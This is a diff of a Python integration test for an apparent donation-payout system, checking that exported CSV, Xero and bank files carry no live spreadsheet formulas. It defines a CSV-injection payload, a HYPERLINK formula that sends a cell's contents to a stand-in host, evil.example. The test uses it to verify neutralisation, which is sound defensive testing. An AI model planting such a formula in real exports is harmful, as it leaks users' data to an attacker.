@@ -23,11 +23,15 @@ import boto3
 import pytest
 
 from tests.integration.operations import deliver, ok, said, table, wardfund
+from wardfund.adapters.dynamodb.audit_log import DynamoAuditLog
+from wardfund.adapters.dynamodb.bank_details_store import DynamoBankDetailsStore
 from wardfund.adapters.dynamodb.campaign_store import DynamoCampaignStore
+from wardfund.adapters.kms_bank_details import KmsBankDetails
 from wardfund.domain.calendar import LONDON
 from wardfund.domain.campaign import Campaign
 from wardfund.local.stack import LocalStack
 from wardfund.local.stripe_world import Donor, StripeWorld
+from wardfund.services.bank_details import approve_change, request_change
 from wardfund.services.campaigns import register_campaign
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
@@ -75,9 +79,18 @@ def _campaign(stack: LocalStack, campaign_id: str, name: str) -> Campaign:
         name,
         treasurer_emails=(f"treasurer@{campaign_id}.example",),
         launch_event_on=date(2026, 6, 1),
-        bank_reference=FORMULA,  # paid by bank: the campaign's name is the bank file's payee
+        bank_reference=FORMULA,  # paid by bank
     )
-    return register_campaign(DynamoCampaignStore(table(stack)), campaign, by="test")
+    registered = register_campaign(DynamoCampaignStore(table(stack)), campaign, by="test")
+    # its bank account named by the attacker too: the bank file's payee
+    store, audit = DynamoBankDetailsStore(table(stack)), DynamoAuditLog(table(stack))
+    request_change(
+        store, DynamoCampaignStore(table(stack)), KmsBankDetails(), audit, None,
+        campaign_id=campaign_id, account_name=FORMULA, sort_code="089999",
+        account_number="66374958", by="treasurer", at=GIFT_AT,
+    )  # fmt: skip
+    approve_change(store, audit, campaign_id=campaign_id, by="finance", at=GIFT_AT)
+    return registered
 
 
 @pytest.fixture
@@ -130,7 +143,7 @@ def test_no_file_that_comes_out_holds_a_live_formula(
     for sent in statements:
         files[f"statement to {sent.to[0]}"] = csv_attachment(sent.mime)
     (summary,) = [e for e in emails if e.kind == "national_summary"]
-    files["bank file emailed"] = csv_attachment(summary.mime)
+    assert not [part for part in summary.mime.walk() if part.get_filename()]  # linked only
 
     for name, text in files.items():
         assert live_formulas(text) == [], (name, text)
@@ -141,13 +154,14 @@ def test_no_file_that_comes_out_holds_a_live_formula(
     assert "'" + FORMULA_WARD in cells(files["report csv"])  # the ward
     assert kept in cells(files["report --all csv"])  # the campaign's name
     assert any(c.startswith(kept) for c in cells(files["report --all xero"]))  # description
-    assert kept in cells(files["bank file"])  # payee and bank reference
+    # the bank file carries Bacs text only: the payee's name, with nothing a formula needs
+    assert ",HYPERLINK HTTP //E," in files["bank file"]
     assert any(kept in cells(text) for name, text in files.items() if name.startswith("statement"))
     # And amounts stay numbers: the refund is negative in Xero, the payout is a number
     xero = list(csv.DictReader(io.StringIO(files["report xero"])))
     assert "-8.00" in [row["*Amount"] for row in xero]  # £10 refunded of a 80 % share
-    bank = list(csv.DictReader(io.StringIO(files["bank file"])))
-    assert {row["amount_gbp"] for row in bank} == {"40.00", "96.00"}
+    bank = list(csv.reader(io.StringIO(files["bank file"])))
+    assert {row[16] for row in bank} == {"40.00", "96.00"}
 
 
 def test_listings_print_names_as_they_are(
